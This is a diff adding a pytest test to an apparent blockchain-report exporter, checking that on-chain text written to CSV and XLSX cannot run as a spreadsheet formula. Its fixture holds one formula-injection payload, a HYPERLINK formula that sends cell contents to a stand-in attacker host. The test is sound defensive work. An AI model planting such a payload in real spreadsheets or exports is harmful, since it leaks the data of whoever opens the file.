@@ -132,3 +132,26 @@ def test_all_and_dates_and_refusals(suite: Any, acts: dict[str, Any], tmp_path: 
 def test_report_events_is_the_default_command() -> None:
     result = CliRunner().invoke(report_cli.report, ["TaxPaid", "--help"])
     assert result.exit_code == 0 and "--format" in result.output
+
+
+def test_text_from_the_chain_is_never_a_formula(tmp_path: Path) -> None:
+    """A name an agency registered on chain (say a grant round's) cannot run as a formula in
+    the auditor's spreadsheet; numbers, negative ones included, stay numbers."""
+    from civic_ledger.report.events import EventRow
+    from civic_ledger.report.export import write_report
+
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    row = EventRow("RoundCreated", "GrantFund", 7, 1_900_000_000, "0x" + "ab" * 32, 0,
+                   "0x" + "11" * 20, {"name": evil, "delta": -5, "big": 2**200})  # fmt: skip
+    write_report([row], tmp_path / "r.csv", "csv")
+    with (tmp_path / "r.csv").open(newline="") as handle:
+        [written] = list(csv.DictReader(handle))
+    assert written["name"] == "'" + evil and written["delta"] == "-5"
+    assert written["big"] == str(2**200)
+
+    write_report([row], tmp_path / "r.xlsx", "xlsx")
+    sheet = load_workbook(tmp_path / "r.xlsx")["events"]
+    header = [c.value for c in sheet[1]]
+    cells = dict(zip(header, sheet[2], strict=True))
+    assert cells["name"].value == evil and cells["name"].data_type == "s"
+    assert cells["delta"].value == -5 and cells["big"].value == str(2**200)
